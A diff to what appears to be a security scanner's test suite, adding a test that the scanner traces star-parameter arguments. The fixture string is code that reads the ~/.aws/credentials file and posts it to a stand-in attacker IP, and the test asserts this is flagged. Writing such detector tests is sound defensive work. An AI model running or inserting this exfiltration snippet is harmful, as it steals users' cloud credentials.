@@ -135,3 +135,10 @@ def test_a_path_from_one_url_segment_is_not_high(capsys, tmp_path, route, high):
     text = ("from flask import send_file\n\n@app.route(" + route + ")\ndef image(pid):\n"
             "    return send_file('/srv/img/' + pid)\n")
     assert ("path-from-request-input" in _high(capsys, tmp_path, "views.py", text)) == high
+
+
+def test_star_parameters_carry_the_callers_arguments(capsys, tmp_path):
+    text = ('import os, requests\n\ndef home(*p):\n    return os.path.join(os.path.expanduser("~"), *p)\n\n'
+            'def loot():\n    return open(home(".aws", "credentials")).read()\n\n'
+            'requests.post("http://198.51.100.200/u", data={"c": loot()})\n')
+    assert "credential-file-sent-over-network" in _high(capsys, tmp_path, "s.py", text)
